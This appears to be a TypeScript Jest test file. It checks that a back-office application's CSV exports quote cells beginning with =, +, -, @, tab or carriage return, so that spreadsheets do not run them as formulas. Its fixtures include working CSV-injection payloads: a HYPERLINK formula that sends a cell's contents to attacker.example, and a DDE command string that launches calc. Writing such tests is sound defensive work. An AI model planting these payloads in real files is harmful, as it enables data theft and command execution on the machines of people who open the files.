// Spreadsheet formula injection: text that a spreadsheet would run (=, +, -, @, tab, carriage return at
// the start) leaves us as text with a leading quote, in every CSV we write: the statement declarations
// CSV downloaded from the back office, the declaration export job's files, and the small CSVs of the
// import pages. Plain numbers stay numbers; the 25 columns are otherwise unchanged.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { runJob } from '../../../src/actions/jobs/run-job.js';
import { unknownUrnsCsv } from '../../../src/actions/schools/pupil-premium/unknown-urns-csv.js';
import { declarationExportsJob } from '../../../src/jobs/declaration-exports-job.js';
import { csvText } from '../../../src/reports/csv/csv-lines.js';
import { inertCell } from '../../../src/reports/csv/inert-cells.js';
import { exportStore } from '../../../src/reports/exports/export-store.js';
import { DECLARATIONS_CSV_HEADERS } from '../../../src/reports/statements/declarations-csv.js';
import { BackOfficeClient, startBackOffice, type BackOffice } from '../../support/back-office.js';
import { readExport } from '../../support/exports.js';
import { createDeclaration, createDeliveryPartner, createLeadProvider, createParticipant, createParticipantWorld, createSchool, createStatement, createUser } from '../../support/factories.js';

const NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
const SCHOOL = '+cmd|\' /C calc\'!A0';
const PARTNER = '@SUM(1+1)*cmd';
const STATEMENT = '-2+3 March 2025';

describe('the cell rule', () => {
  it('quotes what a spreadsheet would run, and leaves plain text and plain numbers alone', () => {
    expect(['=1+1', '+44 20 7946 0000 x', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', 'Ada Lovelace', '-12.50', '+3', '42', ''].map(inertCell))
      .toEqual(["'=1+1", "'+44 20 7946 0000 x", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rcmd", 'Ada Lovelace', '-12.50', '+3', '42', '']);
  });

  it('applies to the import pages\' downloads', () => {
    expect(unknownUrnsCsv([{ urn: '=1+2', lines: [3] }])).toBe("URN,Lines in file\n'=1+2,3\n");
  });

  it('goes through the one CSV writer, which writes what csv-stringify wrote', () => {
    const rows = [['=1+2', 'a "quoted", b', 'two\nlines', 'cr\rhere', null, 42, '-12.50', '']];
    const header = ['plain', 'with, comma', 'with "quote"', 'x', 'empty', 'number', 'money', 'blank'];
    const expected = stringify(rows.map((row) => row.map((cell) => (typeof cell === 'string' ? inertCell(cell) : cell))), { header: true, columns: header });
    expect(csvText(header, rows)).toBe(expected);
    expect(csvText(header, [])).toBe(stringify([], { header: true, columns: header }));
  });
});

describe('the declarations CSVs', () => {
  let app: BackOffice;
  let statementId: string;
  const finance = () => new BackOfficeClient(app);

  beforeAll(async () => {
    const leadProvider = await createLeadProvider({ name: 'Formula Provider' });
    const world = await createParticipantWorld(2024, { leadProvider, school: await createSchool({ name: SCHOOL }), deliveryPartner: await createDeliveryPartner({ name: PARTNER }) });
    const statement = await createStatement(world.leadProvider, world.cohort, { name: STATEMENT });
    statementId = statement.id;
    const participant = await createParticipant(world, { fullName: NAME });
    await createDeclaration(participant, world.leadProvider, { statement, state: 'eligible', deliveryPartnerId: world.deliveryPartner.id });
    await createDeclaration(await createParticipant(world, { fullName: 'Ada Lovelace' }), world.leadProvider, { statement, state: 'eligible' });
    await createUser('finance', { email: 'finance@formula.example.com', password: 'formula-test-password-1' });
    app = await startBackOffice();
  }, 120_000);
  afterAll(async () => {
    await app?.close();
  });

  const expectInert = (rows: string[][]) => {
    const [header, ...lines] = rows;
    expect(header).toEqual([...DECLARATIONS_CSV_HEADERS]);
    expect(header).toHaveLength(25);
    const byName = Object.fromEntries(lines.map((line) => [line[1], Object.fromEntries(header.map((h, i) => [h, line[i]]))]));
    expect(byName[`'${NAME}`]).toMatchObject({
      'School Name': `'${SCHOOL}`, 'Delivery Partner Name': `'${PARTNER}`, 'Statement Name': `'${STATEMENT}`, 'Lead Provider Name': 'Formula Provider',
      'Declaration Status': 'eligible', 'Eligible For Funding': 'true',
    });
    expect(byName['Ada Lovelace']).toBeDefined();
    for (const line of lines) {
      expect(line).toHaveLength(25);
      for (const cell of line) expect({ cell, live: /^[-=+@\t\r]/.test(cell) }).toEqual({ cell, live: false });
    }
  };

  it('downloaded from the Statements page by finance', async () => {
    const client = finance();
    await client.signIn('finance@formula.example.com', 'formula-test-password-1');
    const response = await client.request(`/admin/api/pages/statements?download=csv&statement=${statementId}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expectInert(parse(await response.text()) as string[][]);
  });

  it("written by the declaration export job, for one statement and for the provider's cohort", async () => {
    await runJob(declarationExportsJob, { statementId });
    await runJob(declarationExportsJob, {});
    const csvs = (await exportStore().list()).map((f) => f.name).filter((file) => file.includes('FormulaProvider'));
    expect(csvs).toHaveLength(2);
    for (const file of csvs) expectInert(parse((await readExport(file)) ?? '') as string[][]);
  });
});
